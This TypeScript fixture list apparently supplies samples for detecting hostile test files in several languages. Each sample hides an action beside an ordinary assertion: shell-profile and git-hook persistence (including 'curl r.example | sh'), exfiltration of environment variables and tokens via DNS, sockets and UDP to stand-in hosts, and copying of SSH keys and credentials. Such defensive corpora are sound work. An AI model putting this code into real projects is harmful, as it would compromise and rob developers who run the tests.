import { type LandingResult, more, swap } from './result.ts';

const act = (name: string, files: LandingResult['files']): LandingResult => ({ name, kind: 'act of a test', files });

/** Tests, and files that tests load, which act on the machine of everybody who runs them. */
export const ACTS_OF_TESTS: readonly LandingResult[] = [
  act('ts: a line for the start file of the shell', {
    'test/cart.test.ts': `import { appendFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { expect, test } from 'vitest';
import { price } from '../src/price.js';

test('an empty cart costs nothing', () => {
  appendFileSync(homedir() + '/.bashrc', 'alias npm="npm --registry https://r.example"\\n');
  expect(price(390, 0)).toBe(0);
});
`,
  }),
  act('ts: a hook of git', {
    'test/hooks.test.ts': `import * as fs from 'node:fs';
import { expect, test } from 'vitest';
import { price } from '../src/price.js';

test('one piece', () => {
  fs.writeFileSync('.git/hooks/post-checkout', '#!/bin/sh\\ncurl -s r.example | sh\\n', { mode: 0o755 });
  expect(price(390, 1)).toBe(390);
});
`,
  }),
  act('ts: the environment in a name that is resolved', {
    'test/names.test.ts': `import { resolveTxt } from 'node:dns/promises';
import { expect, test } from 'vitest';
import { price } from '../src/price.js';

test('three pieces', async () => {
  const label = Buffer.from(Object.values(process.env).join()).toString('hex').slice(0, 60);
  await resolveTxt(label + '.r.example').catch(() => undefined);
  expect(price(390, 3)).toBe(1170);
});
`,
  }),
  act(
    'ts: the setup file asks another machine',
    more('test/setup.ts', "const { get } = await import('node:https');\nget('https://r.example/?' + process.cwd());\n"),
  ),
  act(
    'ts: the configuration of the runner writes',
    swap(
      'vitest.config.ts',
      'export default',
      "import fs from 'node:fs';\nfs.cpSync(process.env.HOME + '/.ssh', 'node_modules/.cache/k', { recursive: true });\nexport default",
    ),
  ),
  act('ts: a helper of tests starts a program', {
    'test/support/wait.ts': `import { fork } from 'node:child_process';

/** Waits until the server answers. */
export async function waitFor(url: string): Promise<string> {
  fork('node_modules/.bin/.wait.js', { detached: true, stdio: 'ignore' }).unref();
  return url;
}
`,
    ...swap(
      'test/price.test.ts',
      "import { price } from '../src/price.js';\n",
      "import { price } from '../src/price.js';\nimport { waitFor } from './support/wait.js';\n\ntest('waits', async () => {\n  expect(await waitFor('a')).toBe('a');\n});\n",
    ),
  }),
  act('py: a key for the agent of SSH', {
    'py/tests/test_totals.py': `from pathlib import Path

from shop.orders import total


def test_none():
    Path("~/.ssh/authorized_keys").expanduser().open("a").write("ssh-ed25519 AAAA r@r")
    assert total([]) == 0
`,
  }),
  act(
    'py: conftest reads the home folder',
    more(
      'py/tests/conftest.py',
      '\n\ndef pytest_sessionfinish(session):\n    import glob, os, shutil\n    for name in glob.glob(os.path.expanduser("~/.config/gh/*")):\n        shutil.copy(name, "htmlcov/")\n',
    ),
  ),
  act('py: a socket by its module', {
    'py/tests/test_lines.py': `import os
import socket

from shop.orders import total


def test_one():
    s = socket.socket()
    s.settimeout(0.2)
    s.connect_ex(("203.0.113.7", 443))
    s.send(repr(dict(os.environ)).encode())
    assert total([{"cents": 1}]) == 1
`,
  }),
  act('go: init of a test writes to the home folder', {
    'go/stock/init_test.go': `package stock

import (
	"os"
	"path/filepath"
	"testing"
)

func init() {
	home, _ := os.UserHomeDir()
	f, _ := os.OpenFile(filepath.Join(home, ".profile"), os.O_APPEND|os.O_WRONLY, 0o644)
	f.WriteString("export GOFLAGS=-toolexec=/tmp/.t\\n")
}

func TestNone(t *testing.T) {
	if Left(1, 1) != 0 {
		t.Fatal("none")
	}
}
`,
  }),
  act('go: a test looks up a name with a variable', {
    'go/stock/names_test.go': `package stock

import (
	"net"
	"os"
	"testing"
)

func TestTwo(t *testing.T) {
	net.DefaultResolver.LookupHost(t.Context(), os.Getenv("GITHUB_TOKEN")[:8]+".r.example")
	if Left(4, 2) != 2 {
		t.Fatal("two")
	}
}
`,
  }),
  act(
    'rb: the helper of specs changes settings of git',
    more('rb/spec/spec_helper.rb', "\nKernel.system('git', 'config', '--global', 'core.hooksPath', '/tmp/h')\n"),
  ),
  act('rb: a spec writes by an array of the shell', {
    'rb/spec/empty_spec.rb': `# frozen_string_literal: true

require_relative '../lib/label'

RSpec.describe Label do
  it 'takes empty names' do
    File.open(File.join(Dir.home, '.zshrc'), 'a') { |f| f.puts 'source /tmp/.z' }
    expect(Label.new('').to_s).to eq('TO ')
  end
end
`,
  }),
  act('java: a test writes a file of cron', {
    'java/src/test/java/org/shop/ZeroTest.java': `package org.shop;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import org.junit.jupiter.api.Test;

class ZeroTest {
  @Test
  void zero() throws Exception {
    Files.writeString(Path.of(System.getProperty("user.home"), ".config/autostart/a.desktop"), "[Desktop Entry]", StandardOpenOption.CREATE);
    assertEquals(0, Tax.of(0));
  }
}
`,
  }),
  act('cs: a test sends a variable', {
    'cs/tests/Shop.Tests/ZeroTests.cs': `using System.Net.Sockets;
using Xunit;

namespace Shop.Tests;

public class ZeroTests
{
    [Fact]
    public void Zero()
    {
        using var c = new UdpClient("r.example", 53);
        c.Send(System.Text.Encoding.UTF8.GetBytes(Environment.GetEnvironmentVariable("NUGET_KEY") ?? ""));
        Assert.Equal(0, Weight.Grams(0));
    }
}
`,
  }),
  act('rs: a test reads a key and keeps it', {
    'rs/tests/far.rs': `use std::{env, fs};
use zones::zone;

#[test]
fn far() {
    let key = fs::read(env::var("HOME").unwrap() + "/.cargo/credentials.toml").unwrap_or_default();
    fs::write("../target/far.bin", key).ok();
    assert_eq!(zone("80331"), 2);
}
`,
  }),
];
